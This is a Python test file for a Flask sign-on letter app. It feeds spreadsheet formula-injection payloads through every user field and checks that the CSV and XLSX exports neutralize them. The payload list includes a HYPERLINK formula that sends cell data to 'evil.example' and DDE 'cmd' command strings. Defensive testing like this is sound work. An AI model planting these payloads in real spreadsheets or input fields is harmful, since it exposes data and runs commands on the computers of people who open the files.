"""Spreadsheet formula injection (CSV injection): signers and organizers put formulas in every column
they control; the list CSV, the contacts CSV and the contacts XLSX never hand a spreadsheet a cell
that starts a formula, and the XLSX holds no formula cell at all."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass, field
from typing import Any

import pytest
import sqlalchemy as sa
from flask import Flask
from openpyxl import load_workbook

from signon.extensions import db
from signon.models import Signatory, Signature
from signon.services.normalize import clean_text
from tests.conftest import base_config, build_app, csrf_token, form_defaults, link_in
from tests.factories import form_data
from tests.security.conftest import ADMIN, quick_organizer, relax_rate_limits, sign_in

FORMULA_PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "+cmd|' /C calc'!A0",
    "-1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+2)",
    "@cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    " =1+2",
    "\uff1d1+2",
    "\uff0b1+2",
    "\uff0d1+2",
    "\uff20SUM(1+2)",
    "=1+2;=3+4",
    '"=1+2"',
]
# Email local parts may start with these too.
EMAIL_FORMULAS = ["=1+2", "+1+2", "-1+2", "=cmd|'/Ccalc'!A0"]
# One per line, each once (repeated categories are a separate bug: see test_input).
CATEGORIES = list(
    dict.fromkeys(line.strip() for line in "\n".join(FORMULA_PAYLOADS).splitlines() if line.strip())
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# Columns whose text a signer or an organizer chose.
USER_COLUMNS = [
    "Organization (as typed)",
    "Listed as",
    "Name",
    "Title",
    "Email",
    "City",
    "State or region",
    "Country",
    "Category",
    "Note to organizers",
    "Reason",
]


@dataclass
class Sheets:
    list_csv: str = ""
    frozen_csv: str = ""
    contacts_csv: str = ""
    contacts_xlsx: bytes = b""
    typed: list[dict[str, str]] = field(default_factory=list)


def run(app: Flask, mailbox: Any) -> Sheets:
    relax_rate_limits(app)
    with app.app_context():
        quick_organizer(ADMIN, role="admin")
    admin = app.test_client()
    csrf = sign_in(admin, ADMIN)
    created = admin.post(
        "/admin/letters/new",
        data={
            "csrf_token": csrf,
            "title": "Formula letter",
            "slug": "formula-letter",
            "body": "Text",
            "categories": "\n".join(CATEGORIES),
            "timezone": "UTC",
            "requires_approval": "y",
        },
    )
    letter = f"/admin/letters/{created.headers['Location'].rsplit('/', 1)[1]}"
    admin.post(f"{letter}/status", data={"csrf_token": csrf, "status": "open"})
    categories = CATEGORIES
    sheets = Sheets()
    for n, payload in enumerate(FORMULA_PAYLOADS):
        signer = app.test_client()
        page = signer.get("/letters/formula-letter")
        typed = {
            "organization": f"{payload} {n}",
            "name": payload,
            "title": payload,
            "email": f"{EMAIL_FORMULAS[n % len(EMAIL_FORMULAS)]}{n}@formula.example",
            "city": payload,
            "region": payload,
            "country": payload,
            "category": categories[n % len(categories)],
            "note": payload,
        }
        answer = signer.post(
            "/letters/formula-letter", data=form_defaults(page.text) | form_data(**typed)
        )
        assert answer.status_code == 303, (payload, answer.status_code)
        sheets.typed.append(typed)
        [message] = [m for m in mailbox.to(typed["email"])]
        confirm = link_in(message, "/confirm/").split("signon.example", 1)[1]
        signer.post(confirm, data={"csrf_token": csrf_token(signer.get(confirm).text)})
    with app.app_context():
        rows = db.session.execute(
            sa.select(Signature.id, Signature.signatory_id).order_by(Signature.id)
        ).all()
    approve = [str(r.id) for r in rows[:-2]]
    admin.post(
        f"{letter}/signatures/decide",
        data={"csrf_token": csrf, "decision": "approve", "ids": approve},
    )
    for row, reason in zip(rows[-2:], FORMULA_PAYLOADS, strict=False):
        admin.post(
            f"{letter}/signatures/decide",
            data={"csrf_token": csrf, "decision": "reject", "ids": str(row.id), "reason": reason},
        )
    for (_, signatory), payload in zip(rows[:-2], FORMULA_PAYLOADS, strict=False):
        admin.post(
            f"{letter}/signatories/{signatory}",
            data={"csrf_token": csrf, "display_name": payload, "city": payload, "region": payload},
        )
    admin.post(f"{letter}/freeze", data={"csrf_token": csrf, "note": ""})
    with app.app_context():
        snapshot = db.session.execute(sa.text("SELECT max(id) FROM list_snapshot")).scalar_one()
        assert db.session.execute(sa.select(sa.func.count()).select_from(Signatory)).scalar()
    sheets.list_csv = admin.get(f"{letter}/export?format=csv").data.decode("utf-8-sig")
    sheets.frozen_csv = admin.get(f"{letter}/snapshots/{snapshot}/csv").data.decode("utf-8-sig")
    sheets.contacts_csv = admin.post(
        f"{letter}/export", data={"csrf_token": csrf, "format": "contacts-csv"}
    ).data.decode("utf-8-sig")
    sheets.contacts_xlsx = admin.post(
        f"{letter}/export", data={"csrf_token": csrf, "format": "contacts-xlsx"}
    ).data
    return sheets


@pytest.fixture(scope="module")
def sheets(smtp_server: Any, database_uri: str) -> Sheets:
    controller, mailbox = smtp_server
    mailbox.clear()
    for app in build_app(base_config(controller, database_uri)):
        result = run(app, mailbox)
    return result


def starts_a_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS)


def stored(payload: str) -> str:
    """The payload as the app keeps it (typed text is trimmed and its control characters folded)."""
    return clean_text(payload)


def test_every_formula_payload_was_accepted_by_the_forms(sheets: Sheets):
    assert len(sheets.typed) == len(FORMULA_PAYLOADS)
    rows = list(csv.DictReader(io.StringIO(sheets.contacts_csv)))
    assert len(rows) == len(FORMULA_PAYLOADS)


@pytest.mark.parametrize("which", ["list_csv", "frozen_csv"])
def test_the_list_csv_never_starts_a_formula(sheets: Sheets, which: str):
    rows = list(csv.reader(io.StringIO(getattr(sheets, which))))
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULA_PAYLOADS) - 2
    risky = [
        (header[i], cell) for row in body for i, cell in enumerate(row) if starts_a_formula(cell)
    ]
    assert not risky, risky
    names = {row[header.index("name")] for row in body}
    kept = {stored(p) for p in FORMULA_PAYLOADS[: len(body)]}
    assert {name.removeprefix("'") for name in names} == kept  # neutralized, not dropped


def test_the_contacts_csv_never_starts_a_formula(sheets: Sheets):
    reader = csv.DictReader(io.StringIO(sheets.contacts_csv))
    rows = list(reader)
    risky = [
        (column, value) for row in rows for column, value in row.items() if starts_a_formula(value)
    ]
    assert not risky, risky
    assert set(USER_COLUMNS) <= set(reader.fieldnames or [])
    neutralized = [
        v for row in rows for c, v in row.items() if c in USER_COLUMNS and v.startswith("'")
    ]
    assert len(neutralized) >= len(FORMULA_PAYLOADS) * 5  # the payloads are there, defused


def test_the_contacts_xlsx_holds_no_formula_and_no_cell_that_starts_one(sheets: Sheets):
    workbook = load_workbook(io.BytesIO(sheets.contacts_xlsx))
    sheet = workbook.active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    risky = [(cell.coordinate, cell.value) for cell in cells if starts_a_formula(cell.value)]
    links = [cell.coordinate for cell in cells if cell.hyperlink is not None]
    workbook.close()
    assert formulas == []
    assert risky == []
    assert links == []
    assert sum(
        1 for cell in cells if isinstance(cell.value, str) and cell.value.startswith("'")
    ) >= len(FORMULA_PAYLOADS)
